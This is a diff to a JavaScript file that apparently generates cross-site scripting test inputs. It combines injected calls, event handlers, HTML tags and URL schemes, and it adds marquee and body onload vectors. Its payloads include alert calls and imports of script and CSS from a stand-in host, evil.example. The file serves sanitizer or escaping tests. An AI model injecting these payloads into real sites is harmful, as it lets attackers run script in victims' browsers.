@@ -1,5 +1,5 @@
 /** What an attacker writes into every field, hoping that one place forgets what it is. */
-const calls = ["alert(1)", "window.hacked=1", "fetch('//evil.example')", "import('//evil.example/x.js')"];
+const calls = ["alert(1)", "window.hacked=1", "import('//evil.example/x.js')"];
 const handlers = [
   "onerror",
   "onload",
@@ -38,6 +38,8 @@ const tags = [
   "<style>@import '//evil.example/x.css'</style>",
   "<video><source onerror=CALL></video>",
   "<details open ontoggle=CALL>",
+  "<marquee onstart=CALL>",
+  "<body onload=CALL>",
 ];
 const addresses = [
   "javascript:CALL",
